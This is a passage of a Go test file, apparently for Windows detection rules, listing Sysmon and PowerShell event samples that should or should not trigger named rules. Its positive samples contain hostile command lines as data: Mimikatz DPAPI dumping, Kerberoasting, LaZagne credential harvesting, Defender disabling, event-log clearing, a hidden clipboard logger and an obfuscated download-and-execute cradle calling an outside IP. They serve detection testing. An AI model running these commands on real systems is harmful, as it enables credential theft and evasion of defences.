		{
			ID:      "b6cfeec8-1407-5aeb-831b-242888c8b31b", // DPAPI Secrets Decrypted With Mimikatz (Command Line)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\m.exe",
				"CommandLine": "m.exe privilege::debug \"dpapi::chrome\" exit",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "980ca42a-fa17-5840-922d-60fae3d55e62", // DPAPI Secrets Decrypted With Mimikatz (PowerShell)
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Invoke-Mimikatz -Command '\"dpapi::chrome\"'",
			},
		},
		{
			ID:      "3221934b-3fb7-5aff-8023-375e360bd682", // Kerberoasting From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$t = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList \"MSSQLSvc/db01.corp.local:1433\"",
			},
		},
		{
			ID:      "a3ef38a4-db28-5ffb-9745-048c0798b127", // Kerberoasting Tool on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\r.exe",
				"CommandLine": "r.exe kerberoast /outfile:C:\\Users\\Public\\h.txt",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "3b53cc93-4ffe-5d3c-b1e4-c3de19309856", // AS-REP Roasting Tool on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\r.exe",
				"CommandLine": "r.exe asreproast /format:hashcat /outfile:C:\\Users\\Public\\a.txt",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9ee16741-e589-5e70-b03c-bbe522f48263", // Credential Harvesting Tool Run From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\l.exe",
				"CommandLine": "C:\\Users\\Public\\lazagne.exe browsers -oN",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "883924fa-ee13-5882-8f59-b059d5cdb4c3", // Event Log Cleared in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Clear-EventLog -LogName Security, System",
			},
		},
		{
			ID:      "524ad732-6556-5024-90d9-4590eec933b6", // Defender Protection Disabled or Excluded in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-MpPreference -DisableRealtimeMonitoring $true",
			},
		},
		{
			ID:      "ba7ee7a1-3222-5e6e-80dc-5c7179136cc6", // Defender Disabled Through Its Policy Registry Values
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\reg.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
				"Details":      "DWORD (0x00000001)",
			},
		},
		{
			ID:      "baebe631-370d-538a-bc53-9cb386e850f2", // Problem Steps Recorder Started Without Its Window
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\psr.exe",
				"CommandLine": "psr.exe /start /output C:\\Users\\Public\\r.zip /sc 1 /gui 0 /maxsc 100",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "90b8e007-cd8f-5240-b9d5-ca35f1b43f27", // Clipboard Read From a Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell -w hidden -c \"while($true){Get-Clipboard | Out-File -Append C:\\Users\\Public\\c.txt; sleep 30}\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ca9fbb04-78fd-53cd-8e17-52292fe799a1", // Password Cracking Tool Run on the Host
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\Public\\hc\\hashcat.exe",
				"CommandLine": "hashcat.exe -m 13100 C:\\Users\\Public\\h.txt rockyou.txt",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "836e604d-599c-510e-93ed-4dd25f4dfee0", // Obfuscated PowerShell in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "&('I'+'E'+'X') (N`e`w`-Obj`ect Net.WebClient).DownloadString('http://203.0.113.9/a')",
			},
		},
		{
			ID:      "2e5eef30-1278-56cf-8c60-e856ee86730e", // Base64 Payload Decoded and Written to Disk From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "[IO.File]::WriteAllBytes(\"$env:TEMP\\u.exe\", [Convert]::FromBase64String($b))",
			},
		},
		{
			ID:      "0ba9cee2-92ad-5566-a3b9-fc07608d0aa2", // File or Folder Ownership Taken or Opened to Everyone
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\icacls.exe",
				"CommandLine": "icacls C:\\Windows\\System32\\utilman.exe /grant Everyone:F",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "80f49a69-fbcf-58fb-a93b-4f63fad851d9", // Sysmon Service Stopped or Its Configuration Changed
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 4,
			Fields: map[string]string{
				"EventID":       "4",
				"State":         "Stopped",
				"Version":       "15.0",
				"SchemaVersion": "4.90",
			},
		},
	}...)
	ruleNegatives = append(ruleNegatives, []ruleSample{
		{
			ID:      "fd72b5b5-cbc5-5edf-9a36-38f59d6eaf85", // Cached Domain Credentials Read From the Registry or With Mimikatz
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"CommandLine": "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Cache",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "cad87ff6-89ad-5bea-9973-875baf8f8d96", // SAM Account Database Opened by a Non-System Process
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectType":  "Key",
				"ObjectName":  "\\REGISTRY\\MACHINE\\SAM\\SAM\\Domains\\Account",
				"ProcessName": "C:\\Windows\\System32\\lsass.exe",
			},
		},
		{
			ID:      "74c6cdd9-9a55-595f-9fce-320c1446a043", // Files Searched for Passwords From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\findstr.exe",
				"CommandLine": "findstr /i \"error\" C:\\Logs\\app.log",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "77f18b38-68b3-547a-bba0-1e63d58d949f", // Registry Searched for Stored Passwords
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"CommandLine": "reg query HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion /v ProductName",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a8266518-f949-5dc7-a365-b55f50f2c585", // Certificate Private Key Exported From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell Export-Certificate -Cert Cert:\\CurrentUser\\My\\1A2B -FilePath C:\\Users\\bob\\c.cer",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "39268433-21eb-5921-a7dc-af3f7d868d5a", // Group Policy Preference Passwords Searched
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\findstr.exe",
				"CommandLine": "findstr /S /I drivemap \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b5d01226-ef14-51d4-b9c0-e175946a32c8", // Group Policy Preference Password Decryption in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-GPO -All | Select-Object DisplayName, ModificationTime",
			},
		},
		{
			ID:      "18f872fd-1793-5e2c-82a6-471cba9efebd", // Browser Password Store Opened by Another Program
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
				"ProcessName": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
			},
		},
		{
			ID:      "e0f97bd3-8a65-59ef-ae79-31b972d0c58f", // Browser Cookie Store Opened by Another Program
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectName":  "C:\\Users\\bob\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Network\\Cookies",
				"ProcessName": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
			},
		},
		{
			ID:      "e1f8978a-2deb-57be-9d56-d8a6974d40d8", // Password Manager Database Opened by Another Program
			Channel: "Security", EventID: 4663,
			Fields: map[string]string{
				"EventID":     "4663",
				"ObjectName":  "C:\\Users\\bob\\Documents\\vault.kdbx",
				"ProcessName": "C:\\Program Files\\KeePass Password Safe 2\\KeePass.exe",
			},
		},
		{
			ID:      "a90b789d-95aa-5a8c-85ec-c560a3606bf4", // Kerberos Golden Ticket Forged on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\klist.exe",
				"CommandLine": "klist tickets",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "0f4402f8-68fd-53e2-819e-a534df2a4d38", // Kerberos Silver Ticket Forged on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\setspn.exe",
				"CommandLine": "setspn -L svc_sql",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "8b6470d6-09ba-5d90-a1e4-641d3910c4b2", // Skeleton Key Patched Into LSASS
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\whoami.exe",
				"CommandLine": "whoami /priv",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "1739af26-36cc-5810-8b33-d862ed69820d", // LLMNR/NBT-NS Poisoning Tool Run From PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Resolve-DnsName -Name fileserver -LlmnrOnly",
			},
		},
		{
			ID:      "09cae616-3ccd-51b2-a61d-b6e9a3d7d6b2", // LLMNR/NBT-NS Poisoning Tool on the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\nbtstat.exe",
				"CommandLine": "nbtstat -n",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "49af547e-dd30-566a-9396-d64ed3bede57", // Keystroke Capture APIs Used in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "$key = $Host.UI.RawUI.ReadKey(\"NoEcho,IncludeKeyDown\")",
			},
		},
		{
			ID:      "3addf699-ef58-5684-87a3-8cb94b35328c", // Certificate Template Abuse or Certificate Forgery Tool
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certreq.exe",
				"CommandLine": "certreq -submit -config ca01\\corp-CA req.csr",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "d1135ca3-ecd8-518a-8fd3-6d0ece920a28", // NTDS.dit Copied or Read by a Command or Script
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\dsamain.exe",
				"CommandLine": "dsamain -dbpath C:\\Snap\\ntds.dit -ldapport 51389",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b3a2fbe1-c7dc-5215-a587-a5eb5eedac02", // NTDS.dit Read in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Item C:\\Windows\\NTDS\\ntds.dit | Select-Object Length",
			},
		},
		{
			ID:      "4b3f4708-178c-5bd6-9b3a-b8105e382c02", // NTDS.dit Copied in a PowerShell Pipeline (Classic Log)
			Channel: "Windows PowerShell", EventID: 800,
			Fields: map[string]string{
				"Message": "Pipeline execution details for command line: Get-Item C:\\Windows\\NTDS\\ntds.dit | Select-Object Length",
			},
		},
		{
			ID:      "19b89ca7-cd7e-5b9f-89ee-cc444980c4d2", // Files Securely Deleted With SDelete
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd /c del C:\\Users\\bob\\Downloads\\old_report.docx",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "e0e96970-a167-551c-bc2e-cf80616fb501", // Script Host or User-Path Program Deletes an Executable
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 23,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"TargetFilename": "C:\\Users\\bob\\AppData\\Local\\Temp\\__PSScriptPolicyTest_ab12cd34.ef5.ps1",
			},
		},
		{
			ID:      "7bff984a-6041-596e-93c3-88abf5e819ad", // Network Share Connection Removed From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\net.exe",
				"CommandLine": "net use Z: \\\\fs01\\team",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 2,
			Fields: map[string]string{
				"Image":          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"TargetFilename": "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\CustomDestinations\\ABC123.temp",
			},
		},
		{
			ID:      "b893e953-8c2f-590e-8fe5-0bee45a5b559", // File Creation Time Changed by a Script Host or User-Path Program
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 2,
			Fields: map[string]string{
				"Image":          "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
				"TargetFilename": "C:\\Users\\bob\\OneDrive\\report.docx",
			},
		},
		{
			ID:      "71807109-9112-562b-a425-b4928447ae75", // PowerShell Command History Deleted
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\notepad.exe",
				"CommandLine": "notepad C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "fb07ebd6-7387-572f-b55f-498ed95d9888", // PowerShell Command History Deleted in a Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Content (Get-PSReadlineOption).HistorySavePath | Select-Object -Last 20",
			},
		},
		{
			ID:      "561ad536-0c6a-5a21-9bbb-ef9ed8c0a935", // PowerShell Command History Logging Turned Off
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Set-PSReadlineOption -HistorySaveStyle SaveIncrementally",
			},
		},
		{
			ID:      "889bbaf8-1356-5940-b2d0-7af65a842a75", // Windows Firewall Disabled or Opened From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\netsh.exe",
				"CommandLine": "netsh advfirewall show allprofiles",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "0c38f9a1-d0a1-5cb9-8140-f0b01d7aced0", // Event Tracing Disabled for .NET or an Event Log Provider
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\logman.exe",
				"CommandLine": "logman query -ets",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "a28e1dea-6b30-507a-9fc1-41f638f264ac", // .NET Event Tracing Disabled in the Registry
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\msiexec.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\.NETFramework\\InstallRoot",
				"Details":      "C:\\Windows\\Microsoft.NET\\Framework64\\\\",
			},
		},
		{
			ID:      "fef78b94-d5cc-5270-b901-cec80f7f2b87", // Next Boot Set to Safe Mode
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\bcdedit.exe",
				"CommandLine": "bcdedit /deletevalue {current} safeboot",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "793433b2-e299-532a-a621-bf37f5d2291c", // PowerShell Started in Version 2
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
				"CommandLine": "powershell.exe -Command $PSVersionTable.PSVersion",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "7c6e3395-6e9f-5b0d-a4a3-b2f03334758e", // Executable or Script Hidden With attrib
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\attrib.exe",
				"CommandLine": "attrib -r C:\\Users\\bob\\Documents\\notes.txt",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "421967cd-b5a3-5ca0-bd33-2515f18830a5", // Account Hidden From the Logon Screen
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
			Fields: map[string]string{
				"Image":        "C:\\Windows\\System32\\svchost.exe",
				"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\AutoAdminLogon",
				"Details":      "0",
			},
		},
		{
			ID:      "efcaf5db-4a07-5963-9183-578748c129ab", // Executable Content Written to an Alternate Data Stream
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 15,
			Fields: map[string]string{
				"Image":          "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
				"TargetFilename": "C:\\Users\\bob\\Downloads\\setup.exe:Zone.Identifier",
			},
		},
		{
			ID:      "f9b93670-979b-5ee5-9a15-e522bd502bfd", // Windows Utility Running Under Another File Name
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":            "C:\\Windows\\System32\\cmd.exe",
				"OriginalFileName": "Cmd.Exe",
				"CommandLine":      "cmd.exe /c dir",
				"ParentImage":      "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "39456b30-9613-583f-abaf-e0a034167741", // File Name With a Right-to-Left Override Character
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Users\\bob\\Downloads\\invoice.jpg.exe",
				"CommandLine": "\"C:\\Users\\bob\\Downloads\\invoice.jpg.exe\"",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "dfadf0e5-9542-5d33-8b87-d76b03a1c49c", // Command Line Obfuscated With Carets or Environment Substrings
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd /c echo a ^& b > out.txt",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "a314795e-76d3-518a-b217-c0e6354aa27c", // Msiexec Installs a Package From a URL or Runs a DLL
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\msiexec.exe",
				"CommandLine": "msiexec /i C:\\Users\\bob\\Downloads\\7z2301-x64.msi",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "9374a9dd-0cb0-57fd-866f-da4be87156e6", // Odbcconf Registers a DLL or Runs a Response File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\odbcconf.exe",
				"CommandLine": "odbcconf.exe /a {CONFIGDSN \"SQL Server\" \"DSN=Sales|Server=db01\"}",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "8d8e3793-7ebb-56fb-8149-6b1dd3b24c78", // RegAsm or RegSvcs Loads an Assembly From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\RegAsm.exe",
				"CommandLine": "RegAsm.exe \"C:\\Program Files\\Contoso\\Contoso.Interop.dll\" /codebase",
				"ParentImage": "C:\\Windows\\System32\\msiexec.exe",
			},
		},
		{
			ID:      "6e3e0991-4080-5ff8-97f0-e0fa7d2ddb01", // Verclsid Instantiates a COM Object From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\verclsid.exe",
				"CommandLine": "verclsid.exe /S /C {8A3A0A4E-0000-0000-0000-000000000001} /I {00000122-0000-0000-C000-000000000046} /X 0x5",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "2582aa4e-6946-5995-bce5-0156895ea847", // MMC Opens a Console File From a User-Writable Path
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\mmc.exe",
				"CommandLine": "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\compmgmt.msc\" /s",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
			ID:      "9ae122ca-ee15-5da4-8880-d92e5af15f91", // PubPrn.vbs Runs a Remote Scriptlet
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cscript.exe",
				"CommandLine": "cscript.exe C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs -l",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "34b69ec3-7f77-524b-bee1-ffe9a4229c1b", // SyncAppvPublishingServer Runs PowerShell Commands
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\SyncAppvPublishingServer.exe",
				"CommandLine": "SyncAppvPublishingServer.exe 1 Global",
				"ParentImage": "C:\\Windows\\System32\\svchost.exe",
			},
		},
		{
			ID:      "9c70f78a-1283-52d8-8499-1049421f4436", // Command Run Indirectly Through forfiles or pcalua
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\forfiles.exe",
				"CommandLine": "forfiles /p C:\\Logs /s /m *.log /d -30",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "880c6547-911e-505c-b06d-a7324a662429", // Rogue Domain Controller Registered (DCShadow)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\repadmin.exe",
				"CommandLine": "repadmin /showrepl dc01",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "38e61e17-1ecc-5247-897d-4d0f1c03a1f9", // SID History Added to an Account
			Channel: "Security", EventID: 4738,
			Fields: map[string]string{
				"EventID":         "4738",
				"TargetUserName":  "bob",
				"SidHistory":      "-",
				"PasswordLastSet": "12/2/2026 9:00:00 AM",
			},
		},
		{
			ID:      "f7bcb4cb-85af-5eac-9c54-be788146a512", // Group Policy Object Settings Changed by a User Account
			Channel: "Security", EventID: 5136,
			Fields: map[string]string{
				"EventID":                  "5136",
				"ObjectClass":              "user",
				"AttributeLDAPDisplayName": "description",
				"SubjectUserName":          "bob",
			},
		},
		{
			ID:      "6c418e1e-7880-5935-b8ec-1fa2f707364d", // Root Certificate Installed From the Command Line
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\certutil.exe",
				"CommandLine": "certutil -addstore -f My C:\\Users\\bob\\client.cer",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "947c9e58-71b7-5ffe-ac6f-325484ce5e06", // Virtual Machine or Sandbox Checks in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-CimInstance Win32_ComputerSystem | Select-Object Name, Domain",
			},
		},
		{
			ID:      "e5528f3f-be04-5e21-ab54-7dd87cb08585", // Remote Thread Starts at LoadLibrary (DLL Injection)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
			Fields: map[string]string{
				"SourceImage":   "C:\\Windows\\System32\\cmd.exe",
				"TargetImage":   "C:\\Windows\\System32\\conhost.exe",
				"StartFunction": "CtrlRoutine",
				"StartModule":   "C:\\Windows\\System32\\KERNELBASE.dll",
			},
		},
		{
			ID:      "4582c620-e117-5cc4-a9d2-95abd7bb2e7d", // Process Image Replaced in Memory (Process Hollowing)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 25,
			Fields: map[string]string{
				"Image": "C:\\Windows\\System32\\svchost.exe",
				"Type":  "Image is locked for access",
			},
		},
		{
			ID:      "ec059f1d-a313-5593-870a-0e310decd508", // APC Injection APIs in a PowerShell Script Block
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-Process | Sort-Object WorkingSet -Descending | Select-Object -First 5",
			},
		},
		{
			ID:      "a9d09b49-d9f5-5510-91a7-b87a07b270a2", // Parent Process Spoofing Attribute Used in PowerShell
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Get-CimInstance Win32_Process | Select-Object ProcessId, ParentProcessId, Name",
			},
		},
		{
			ID:      "bdf0e895-8045-5d8b-8ec4-8cdef8216aec", // Remote Desktop Connection History Deleted
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\reg.exe",
				"CommandLine": "reg query \"HKCU\\Software\\Microsoft\\Terminal Server Client\\Servers\"",
				"ParentImage": "C:\\Windows\\System32\\cmd.exe",
			},
		},
		{
			ID:      "ef41b8ed-56af-5f1c-bdff-525a10ed784b", // Program in a User Folder Starts a Command Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Windows\\System32\\cmd.exe",
				"CommandLine": "cmd.exe /c \"C:\\ProgramData\\Package Cache\\{1A2B}\\vcredist.bat\"",
				"ParentImage": "C:\\ProgramData\\Package Cache\\{1A2B}\\vc_redist.x64.exe",
			},
		},
		{
			ID:      "a33c05a3-6e4a-5409-81e0-990866e4f04c", // Win32 API Imported Into PowerShell With Add-Type
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": "Add-Type @\"\n[DllImport(\"user32.dll\")] public static extern bool SetForegroundWindow(IntPtr hWnd);\n\"@",
			},
		},
		{
			ID:      "5358945c-ca20-52d5-aed4-8da551a6be2a", // Equation Editor or Office Helper Starts a Process
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
				"CommandLine": "\"EXCEL.EXE\" /dde",
				"ParentImage": "C:\\Windows\\explorer.exe",
			},
		},
		{
